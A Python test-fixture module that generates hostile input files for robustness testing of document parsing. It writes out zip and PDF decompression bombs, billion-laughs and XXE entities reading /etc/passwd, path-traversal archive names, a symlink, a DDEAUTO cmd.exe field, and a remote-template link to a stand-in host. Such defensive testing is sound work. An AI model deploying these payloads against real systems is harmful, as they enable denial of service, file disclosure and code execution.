"""Case files that are traps: bombs, loops, names that lead elsewhere, depths; made in a moment, all of invented words."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image
from tests.support import office_files
from tests.support.case_papers import mail, zipped
from tests.support.written_pdf import show, write_pdf

MEGABYTE = 1_000_000
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "haha">{LAUGHS}]>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'


def _one(name: str, content: bytes) -> Callable[[Path], None]:
    return lambda folder: void((folder / name).write_bytes(content))


def void(_: object) -> None:
    """Nothing."""


def _zeros(folder: Path) -> None:
    """Two gigabytes of blanks in two megabytes."""
    with zipfile.ZipFile(folder / "blanks.zip", "w", zipfile.ZIP_DEFLATED) as archive, archive.open("blanks.txt", "w") as out:
        for _ in range(2000):
            out.write(b" " * MEGABYTE)


def _nested(folder: Path) -> None:
    """Sixteen archives in each of sixteen, five deep."""
    content = zipped({"leaf.txt": b"a" * 4 * MEGABYTE})
    for _ in range(5):
        content = zipped({f"{n}.zip": content for n in range(16)})
    (folder / "nested.zip").write_bytes(content)


def _overlapping(folder: Path) -> None:
    """A thousand names for one and the same packed stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = b"b" * 30 * MEGABYTE
    packed, crc = packer.compress(plain) + packer.flush(), zlib.crc32(plain)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), len(plain), 1, 0) + b"x"
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(packed), len(plain), 4, 0, 0, 0, 0, 0, 0)
        + f"{n:04}".encode()
        for n in range(1000)
    )
    body = local + packed
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1000, 1000, len(central), len(body), 0)
    (folder / "overlapping.zip").write_bytes(body + central + end)


def _many(folder: Path) -> None:
    """Twenty-five thousand empty files and one that is not."""
    (folder / "many.zip").write_bytes(zipped({f"{n}.txt": b"" for n in range(25_000)} | {"last.txt": b"A letter of the lake."}))


def _names(folder: Path) -> None:
    """Names that lead out of the folder, and a link."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name in ("../../../../zquib-out.txt", "/zquib-out.txt", "C:\\zquib-out.txt", "..\\..\\zquib-out.txt",
                     "a/../../zquib-out.txt", "\x1b[31mred\nline.txt", "x" * 5000 + ".txt", "con.txt"):  # fmt: skip
            archive.writestr(zipfile.ZipInfo(name), f"Words of {len(name)} signs.")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    (folder / "names.zip").write_bytes(held.getvalue())
    message = mail()
    message.add_attachment(b"Attached words.", maintype="text", subtype="plain", filename="../../../../zquib-out.txt")
    (folder / "names.eml").write_bytes(bytes(message))


def _xml(folder: Path) -> None:
    """Entities that grow, entities that lead outside, elements without end."""
    laughs, outside = DOCTYPE + "<x>&l9;</x>", OUTSIDE + "<x>&l9;</x>"
    (folder / "laughs.xml").write_text(laughs)
    (folder / "outside.xml").write_text(outside)
    (folder / "quadratic.xml").write_text(f'<!DOCTYPE x [<!ENTITY a "{"a" * 200_000}">]><x>{"&a;" * 20_000}</x>')
    (folder / "deep.xml").write_text("<a>" * 1_000_000 + "</a>" * 1_000_000)
    (folder / "deep.html").write_text("<html><body>" + "<div>" * 300_000 + "words" + "</div>" * 300_000)
    for name, head in (("laughs", DOCTYPE), ("outside", OUTSIDE)):
        body = (
            f'{head}<w:document xmlns:w="{office_files.WORD}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'
        )
        (folder / f"{name}.docx").write_bytes(zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": body.encode()}))
        flat = head + office_files.odf_root(
            "document", "<text:p>&l9;</text:p>", more='office:mimetype="application/vnd.oasis.opendocument.text"'
        )
        (folder / f"{name}.fodt").write_text(flat)


def _office(folder: Path) -> None:
    """Documents whose small files say that they are immense."""
    office_files.word(folder / "tables.docx", "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000)
    office_files.word(folder / "blanks.docx", f"<w:p><w:r><w:t>{' ' * 300 * MEGABYTE}</w:t></w:r></w:p>")
    span = '<w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
    wide = f"<w:tbl><w:tr><w:tc>{span}{office_files.paragraph('wide')}</w:tc></w:tr></w:tbl>"
    office_files.word(folder / "wide.docx", wide)
    cell = '<table:table-cell table:number-columns-repeated="1000000000"><text:p>wide</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    office_files.odt(folder / "wide.odt", f"<table:table>{row}</table:table>")
    office_files.odt(folder / "blanks.odt", '<text:p>a<text:s text:c="2000000000"/>b</text:p>')
    (folder / "groups.rtf").write_bytes(b"{\\rtf1 " + b"{" * MEGABYTE + b"words" + b"}" * MEGABYTE + b"}")
    (folder / "bin.rtf").write_bytes(b"{\\rtf1 words \\bin2000000000 xx}")
    (folder / "far.xlsx").write_bytes(_sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'))
    merged = '<row r="1"><c r="A1" t="inlineStr"><is><t>all</t></is></c></row>'
    (folder / "merged.xlsx").write_bytes(_sheet(merged, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'))
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_001))
    (folder / "shared.xlsx").write_bytes(_sheet(rows, shared="s" * 100_000))
    (folder / "wide.csv").write_text("a,b\n" * 3 + "," * 5 * MEGABYTE + "\n")


def _sheet(rows: str, more: str = "", shared: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kinds = "http://schemas.openxmlformats.org/package/2006/content-types"
    form = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{kinds}"><Default Extension="rels" ContentType="application/vnd.'
        f'openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{form}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{form}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{form}.sharedStrings+xml"/></Types>',
        "_rels/.rels": office_files._relations(
            f'<Relationship Id="r1" Type="{office_files.OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
        ),
        "xl/_rels/workbook.xml.rels": office_files._relations(
            f'<Relationship Id="r1" Type="{office_files.OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="r2" Type="{office_files.OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        ),
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office_files.OFFICE}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData>{more}</worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}"><si><t>{shared or "x"}</t></si></sst>',
    }
    return zipped({name: content.encode() for name, content in parts.items()})


def _pdf(folder: Path) -> None:
    """A PDF with 100,000 objects, pages that contain themselves, streams that unpack into far more."""
    words = [show(72, 700, "Words on a page of the lake.")]
    write_pdf(folder / "objects.pdf", words, extra=[b"<< /Nothing %d >>" % n for n in range(100_000)])
    chained = [b"<< /Next %d 0 R /Title (mark %d) /Dest [6 0 R /Fit] >>" % (n + 1, n) for n in range(10, 100_010)]
    write_pdf(folder / "marks.pdf", words, catalog=b"/Outlines << /First 9 0 R /Count 100000 >>", extra=chained)
    plain = (folder / "objects.pdf").read_bytes()[:3000].partition(b"9 0 obj")[0]
    looped = plain.replace(b"/Kids [6 0 R]", b"/Kids [7 0 R]").replace(b"/Count 1 ", b"/Count 9 ")
    (folder / "looped.pdf").write_bytes(looped + b"trailer << /Root 8 0 R /Size 9 >>\n%%EOF")
    packed = zlib.compress(b"q " * 300 * MEGABYTE)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    write_pdf(folder / "stream.pdf", words, extra=[stream])
    bomb = (folder / "stream.pdf").read_bytes().replace(b"/Contents 5 0 R", b"/Contents 9 0 R")
    (folder / "stream.pdf").write_bytes(bomb)
    write_pdf(folder / "claims.pdf", words)
    claims = (folder / "claims.pdf").read_bytes().replace(b"/Count 1 ", b"/Count 9999999 ").replace(b"612 792]", b"9e9 9e9]")
    (folder / "claims.pdf").write_bytes(claims)


def _pictures(folder: Path) -> None:
    """Pictures of more points than any page."""
    for name, side in (("huge.png", 40_000), ("large.png", 13_000)):
        Image.new("1", (side, side), 1).save(folder / name)
    frames = [Image.new("1", (2000, 2000), 1)] * 300
    frames[0].save(folder / "frames.tif", save_all=True, append_images=frames[1:], compression="group4")


def _mails(folder: Path) -> None:
    """Mails in mails, of thousands of parts, of one line."""
    message = mail("level 0", "words of level 0")
    for level in range(1, 31):
        outer = mail(f"level {level}", f"words of level {level}")
        outer.add_attachment(message)
        message = outer
    (folder / "thirty.eml").write_bytes(bytes(message))
    part = b'--x\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\nwords\r\n'
    head = b"From: ada@lake.example\r\nSubject: parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    (folder / "parts.eml").write_bytes(head + part * 10_000 + b"--x--\r\n")
    (folder / "line.eml").write_bytes(b"From: ada@lake.example\r\nSubject: " + b"a" * 20 * MEGABYTE + b"\r\n\r\nwords\r\n")
    opened = b"".join(b"--%d\r\nContent-Type: multipart/mixed; boundary=%d\r\n\r\n" % (n, n + 1) for n in range(5000))
    (folder / "unclosed.eml").write_bytes(head.replace(b"boundary=x", b"boundary=0") + opened + b"words")


def _macros(folder: Path) -> None:
    """Documents with macros, and with links that a program might follow."""
    linked = f'<Relationships xmlns="{office_files.RELATIONS}"><Relationship Id="r9" TargetMode="External" '
    linked += f'Type="{office_files.OFFICE}/attachedTemplate" Target="http://192.0.2.7/zquib.dotm"/></Relationships>'
    files = {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "word/_rels/settings.xml.rels": linked.encode(),
    }
    office_files.word(folder / "macro.docm", office_files.paragraph("Words beside a macro."), files=files)
    instruction = "DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;"
    field = f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>'
    office_files.word(folder / "field.docx", field)


TRAPS: dict[str, Callable[[Path], None]] = {
    "zip: blanks": _zeros,
    "zip: nested": _nested,
    "zip: overlapping": _overlapping,
    "zip: many": _many,
    "names": _names,
    "xml": _xml,
    "office": _office,
    "pdf": _pdf,
    "pictures": _pictures,
    "mails": _mails,
    "macros": _macros,
}
